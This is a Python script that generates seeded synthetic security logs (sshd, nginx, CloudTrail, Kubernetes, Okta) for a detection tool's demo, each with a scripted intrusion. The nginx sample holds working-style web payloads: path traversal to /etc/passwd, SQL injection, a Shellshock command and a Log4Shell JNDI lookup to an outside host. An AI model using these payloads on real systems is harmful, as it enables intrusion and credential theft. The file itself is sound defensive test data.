"""Regenerate the bundled sample logs ``secmon demo`` scans: ``python -m secmon.samples.generate``.

Synthetic but realistic: a day of sshd auth logs with a brute force that ends in a successful
login (then a new account made an administrator, and a sudo refusal), nginx access logs with a
scanner and injection attempts, CloudTrail records of a compromised IAM user, Kubernetes audit
events, and Okta sign-ins with a brute-forced account turned administrator. Seeded, so the files never change by accident.
"""

from __future__ import annotations

import gzip
import json
import random
import zlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).parent
START = datetime(2026, 3, 14, 6, 0, 0, tzinfo=timezone.utc)
ACCOUNT = "123456789012"


def _sshd(rnd: random.Random) -> str:
    lines = []
    t = START
    users = ["deploy", "alice", "bob"]
    # Background: normal key logins from the office range.
    for _ in range(300):
        t += timedelta(seconds=rnd.randint(20, 200))
        user = rnd.choice(users)
        ip = f"198.51.100.{rnd.randint(10, 40)}"
        pid = rnd.randint(1000, 60000)
        lines.append((t, f"sshd[{pid}]: Accepted publickey for {user} from {ip} port {rnd.randint(30000, 65000)} ssh2: RSA SHA256:{rnd.getrandbits(64):016x}"))
        lines.append((t + timedelta(seconds=1), f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} by (uid=0)"))
    # A brute force from one address that finally succeeds as root.
    attack = START + timedelta(hours=3, minutes=12)
    for i in range(40):
        attack += timedelta(seconds=rnd.randint(2, 6))
        pid = 20000 + i
        name = rnd.choice(["root", "admin", "oracle", "test", "ubuntu"])
        invalid = "" if name == "root" else "invalid user "
        if invalid:
            lines.append((attack, f"sshd[{pid}]: Invalid user {name} from 203.0.113.66 port {40000 + i}"))
        lines.append((attack, f"sshd[{pid}]: Failed password for {invalid}{name} from 203.0.113.66 port {40000 + i} ssh2"))
    lines.append((attack + timedelta(seconds=4), "sshd[20999]: message repeated 3 times: [ Failed password for root from 203.0.113.66 port 40999 ssh2]"))
    lines.append((attack + timedelta(seconds=9), "sshd[21000]: Accepted password for root from 203.0.113.66 port 41000 ssh2"))
    # The intruder keeps a way back in: an account of its own, then made an administrator.
    # (Fixed lines, no draws: the other sample files stay as they were.)
    lines.append((attack + timedelta(seconds=40), "useradd[21010]: new group: name=sysbackup, GID=1001"))
    lines.append((attack + timedelta(seconds=40), "useradd[21010]: new user: name=sysbackup, UID=1001, GID=1001, home=/home/sysbackup, shell=/bin/bash, from=/dev/pts/0"))
    lines.append((attack + timedelta(seconds=55), "usermod[21020]: add 'sysbackup' to group 'sudo'"))
    lines.append((attack + timedelta(seconds=55), "usermod[21020]: add 'sysbackup' to shadow group 'sudo'"))
    # A web shell's account probing for root.
    lines.append((START + timedelta(hours=7, minutes=3), "sudo:  www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"))
    # A slow, low-volume scanner that stays under the threshold.
    for i in range(4):
        t2 = START + timedelta(hours=5, minutes=i * 7)
        lines.append((t2, f"sshd[{30000 + i}]: Failed password for invalid user pi from 192.0.2.14 port {50000 + i} ssh2"))
    lines.sort(key=lambda item: item[0])
    return "".join(f"{t:%b} {t.day:2d} {t:%H:%M:%S} bastion-1 {text}\n" for t, text in lines)


def _access(rnd: random.Random) -> str:
    lines = []
    t = START
    agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", "Mozilla/5.0 (Macintosh) Safari/605.1.15", "curl/8.5.0"]
    paths = ["/", "/login", "/static/app.js", "/api/v1/orders?page=2", "/api/v1/items/42", "/static/logo.png"]
    for _ in range(1500):
        t += timedelta(seconds=rnd.randint(1, 30))
        ip = f"198.51.100.{rnd.randint(1, 250)}"
        path = rnd.choice(paths)
        status = 200 if rnd.random() > 0.03 else 404
        lines.append((t, ip, "GET", path, status, rnd.choice(agents)))
    scan = START + timedelta(hours=2)
    for i, probe in enumerate(["/wp-admin/", "/.env", "/phpmyadmin/", "/.git/config", "/admin.php", "/backup.zip",
                               "/server-status", "/config.json", "/wp-login.php", "/xmlrpc.php"] * 4):
        lines.append((scan + timedelta(seconds=i * 2), "192.0.2.200", "GET", probe, 404, "Mozilla/5.0 zgrab/0.x"))
    attack = START + timedelta(hours=4)
    lines.append((attack, "192.0.2.201", "GET", "/download?file=../../../../etc/passwd", 400, "python-requests/2.31"))
    lines.append((attack + timedelta(seconds=3), "192.0.2.201", "GET", "/api/v1/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 500, "sqlmap/1.8"))
    lines.append((attack + timedelta(seconds=9), "192.0.2.202", "GET", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c \\\"cat /etc/passwd\\\""))
    lines.append((attack + timedelta(seconds=15), "192.0.2.203", "GET", "/?x=${jndi:ldap://192.0.2.203/a}", 200, "${jndi:ldap://192.0.2.203/a}"))
    lines.sort(key=lambda item: item[0])
    return "".join(
        f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" {status} {rnd.randint(200, 9000)} "-" "{agent}"\n'
        for t, ip, method, path, status, agent in lines
    )


def _cloudtrail(rnd: random.Random) -> dict:
    def record(t: datetime, name: str, source: str, ip: str, user: str = "ci-deployer", rng: random.Random | None = None,
               **extra) -> dict:
        rng = rng or rnd
        rec = {
            "eventVersion": "1.09",
            "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + user.upper()[:8].ljust(8, "X"),
                             "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}", "accountId": ACCOUNT,
                             "accessKeyId": "AKIA" + format(rng.getrandbits(48), "012X"), "userName": user},
            "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source, "eventName": name,
            "awsRegion": "us-east-1", "sourceIPAddress": ip, "userAgent": "aws-cli/2.15.0 Python/3.11",
            "requestParameters": None, "responseElements": None, "eventID": f"{rng.getrandbits(128):032x}",
            "eventType": "AwsApiCall", "recipientAccountId": ACCOUNT,
        }
        rec.update(extra)
        return rec

    records = []
    t = START
    for _ in range(200):
        t += timedelta(seconds=rnd.randint(30, 300))
        name, source = rnd.choice([("DescribeInstances", "ec2.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com"),
                                   ("GetCallerIdentity", "sts.amazonaws.com"), ("DescribeSecurityGroups", "ec2.amazonaws.com")])
        records.append(record(t, name, source, "198.51.100.20"))
    bad = START + timedelta(hours=6)
    ip = "203.0.113.99"
    records.append(record(bad, "ConsoleLogin", "signin.amazonaws.com", ip, user="alice", eventType="AwsConsoleSignIn",
                          responseElements={"ConsoleLogin": "Success"},
                          additionalEventData={"LoginTo": "https://console.aws.amazon.com/", "MobileVersion": "No", "MFAUsed": "No"}))
    records.append(record(bad + timedelta(minutes=2), "StopLogging", "cloudtrail.amazonaws.com", ip, user="alice",
                          requestParameters={"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"}))
    records.append(record(bad + timedelta(minutes=3), "AttachUserPolicy", "iam.amazonaws.com", ip, user="alice",
                          requestParameters={"userName": "alice", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))
    records.append(record(bad + timedelta(minutes=4), "CreateAccessKey", "iam.amazonaws.com", ip, user="alice",
                          requestParameters={"userName": "ci-deployer"},
                          responseElements={"accessKey": {"userName": "ci-deployer", "status": "Active",
                                                          "accessKeyId": "AKIAEXAMPLEKEY000001"}}))
    # A backdoor user: created, made admin and given a key within a minute (the sequence rule). Its
    # own random source leaves the other samples as they were generated before it was added.
    own = random.Random("backup-svc")
    records.append(record(bad + timedelta(minutes=4, seconds=20), "CreateUser", "iam.amazonaws.com", ip, user="alice",
                          rng=own, requestParameters={"userName": "backup-svc"}))
    records.append(record(bad + timedelta(minutes=4, seconds=35), "AttachUserPolicy", "iam.amazonaws.com", ip, user="alice",
                          rng=own, requestParameters={"userName": "backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))
    records.append(record(bad + timedelta(minutes=4, seconds=50), "CreateAccessKey", "iam.amazonaws.com", ip, user="alice",
                          rng=own, requestParameters={"userName": "backup-svc"},
                          responseElements={"accessKey": {"userName": "backup-svc", "status": "Active",
                                                          "accessKeyId": "AKIAEXAMPLEKEY000002"}}))
    records.append(record(bad + timedelta(minutes=5), "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", ip, user="alice",
                          requestParameters={"groupId": "sg-0abc", "ipPermissions": {"items": [
                              {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                               "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}))
    for i in range(35):
        records.append(record(bad + timedelta(minutes=6, seconds=i), "GetSecretValue", "secretsmanager.amazonaws.com", ip,
                              user="alice", requestParameters={"secretId": f"prod/db-{i}"}))
    records.sort(key=lambda r: r["eventTime"])
    return {"Records": records}


def _k8s(rnd: random.Random) -> str:
    events = []

    def audit(t: datetime, verb: str, user: str, resource: str, ns: str | None, name: str | None, code: int,
              subresource: str | None = None, groups: list[str] | None = None, ip: str = "10.0.5.20", body: dict | None = None) -> dict:
        ref = {"resource": resource, "apiVersion": "v1"}
        if ns:
            ref["namespace"] = ns
        if name:
            ref["name"] = name
        if subresource:
            ref["subresource"] = subresource
        ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": f"{rnd.getrandbits(128):032x}",
              "stage": "ResponseComplete", "requestURI": f"/api/v1/{resource}", "verb": verb,
              "user": {"username": user, "groups": groups or ["system:authenticated"]}, "sourceIPs": [ip],
              "userAgent": "kubectl/v1.30.1", "objectRef": ref, "responseStatus": {"metadata": {}, "code": code},
              "requestReceivedTimestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
              "stageTimestamp": (t + timedelta(milliseconds=12)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")}
        if body:
            ev["requestObject"] = body
        return ev

    t = START
    for _ in range(300):
        t += timedelta(seconds=rnd.randint(5, 120))
        events.append(audit(t, rnd.choice(["get", "list", "watch"]), "system:serviceaccount:kube-system:replicaset-controller",
                            rnd.choice(["pods", "replicasets", "endpoints"]), "default", None, 200))
    bad = START + timedelta(hours=7)
    events.append(audit(bad, "list", "system:anonymous", "secrets", "kube-system", None, 200, groups=["system:unauthenticated"], ip="203.0.113.50"))
    events.append(audit(bad + timedelta(minutes=1), "create", "mallory@example.com", "pods", "payments", "api-7d9f", 101, subresource="exec"))
    events.append(audit(bad + timedelta(minutes=2), "create", "mallory@example.com", "clusterrolebindings", None, "mallory-admin", 201,
                        body={"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                              "subjects": [{"kind": "User", "name": "mallory@example.com"}]}))
    events.sort(key=lambda e: e["requestReceivedTimestamp"])
    return "".join(json.dumps(e) + "\n" for e in events)


def _okta(rnd: random.Random) -> str:
    """Okta System Log events, as ``/api/v1/logs`` returns them: a day of sign-ins, then an account
    brute forced from rotating addresses until a sign-in succeeds; the intruder grants itself
    administrator rights and resets the MFA factors of the finance director."""
    office = {"city": "Amsterdam", "state": "North Holland", "country": "Netherlands", "lat": 52.37, "lon": 4.89}
    abroad = [{"city": "Sao Paulo", "state": "Sao Paulo", "country": "Brazil", "lat": -23.55, "lon": -46.63},
              {"city": "Hanoi", "state": "Hanoi", "country": "Vietnam", "lat": 21.03, "lon": 105.85}]

    def event(t: datetime, event_type: str, result: str, actor: str, ip: str, place: dict, message: str, **extra) -> dict:
        return {
            "uuid": f"{rnd.getrandbits(128):032x}",
            "published": f"{t:%Y-%m-%dT%H:%M:%S}.{rnd.randint(0, 999):03d}Z",
            "eventType": event_type,
            "version": "0",
            "severity": "INFO" if result == "SUCCESS" else "WARN",
            "displayMessage": message,
            "actor": {"id": f"00u{zlib.crc32(actor.encode()):012d}", "type": "User", "alternateId": actor,
                      "displayName": actor.split("@")[0].replace(".", " ").title()},
            "client": {"userAgent": {"rawUserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0", "os": "Windows 10",
                                     "browser": "FIREFOX"},
                       "zone": "null", "device": "Computer", "ipAddress": ip,
                       "geographicalContext": {"city": place["city"], "state": place["state"], "country": place["country"],
                                               "geolocation": {"lat": place["lat"], "lon": place["lon"]}}},
            "outcome": {"result": result, **({"reason": "INVALID_CREDENTIALS"} if result == "FAILURE" else {})},
            "target": extra.pop("target", []),
            "debugContext": {"debugData": extra.pop("debug", {})},
            "authenticationContext": {"authenticationStep": 0, "externalSessionId": f"idx{rnd.getrandbits(64):016x}"},
        }

    users = ["alice@example.com", "bob@example.com", "carol@example.com", "finance.director@example.com"]
    events = []
    t = START
    for _ in range(200):
        t += timedelta(seconds=rnd.randint(30, 300))
        user = rnd.choice(users)
        result = "FAILURE" if rnd.random() < 0.05 else "SUCCESS"  # the odd typo
        events.append(event(t, "user.session.start", result, user, f"198.51.100.{rnd.randint(10, 40)}", office, "User login to Okta"))
    attack = START + timedelta(hours=8)
    for i in range(12):
        attack += timedelta(seconds=rnd.randint(20, 50))
        place = abroad[i % 2]
        events.append(event(attack, "user.session.start", "FAILURE", "bob@example.com", f"192.0.2.{100 + i}", place, "User login to Okta"))
    attack += timedelta(seconds=30)
    events.append(event(attack, "user.session.start", "SUCCESS", "bob@example.com", "192.0.2.111", abroad[1], "User login to Okta"))
    events.append(event(attack + timedelta(minutes=3), "user.account.privilege.grant", "SUCCESS", "bob@example.com", "192.0.2.111",
                        abroad[1], "Grant user privilege",
                        target=[{"id": "00u000000000042", "type": "User", "alternateId": "bob@example.com", "displayName": "Bob"}],
                        debug={"privilegeGranted": "Super administrator"}))
    events.append(event(attack + timedelta(minutes=5), "user.mfa.factor.reset_all", "SUCCESS", "bob@example.com", "192.0.2.111",
                        abroad[1], "Reset all factors for user",
                        target=[{"id": "00u000000000077", "type": "User", "alternateId": "finance.director@example.com",
                                 "displayName": "Finance Director"}]))
    events.sort(key=lambda e: e["published"])
    return "".join(json.dumps(e) + "\n" for e in events)


def main() -> None:
    rnd = random.Random(20260314)
    (HERE / "auth.log").write_text(_sshd(rnd))
    with gzip.GzipFile(HERE / "access.log.gz", "wb", mtime=0) as fh:
        fh.write(_access(rnd).encode())
    (HERE / "cloudtrail.json").write_text(json.dumps(_cloudtrail(rnd), indent=1))
    (HERE / "k8s-audit.jsonl").write_text(_k8s(rnd))
    # Its own seed: the files above stay as they were before it was added.
    (HERE / "okta.jsonl").write_text(_okta(random.Random(20260315)))


if __name__ == "__main__":
    main()
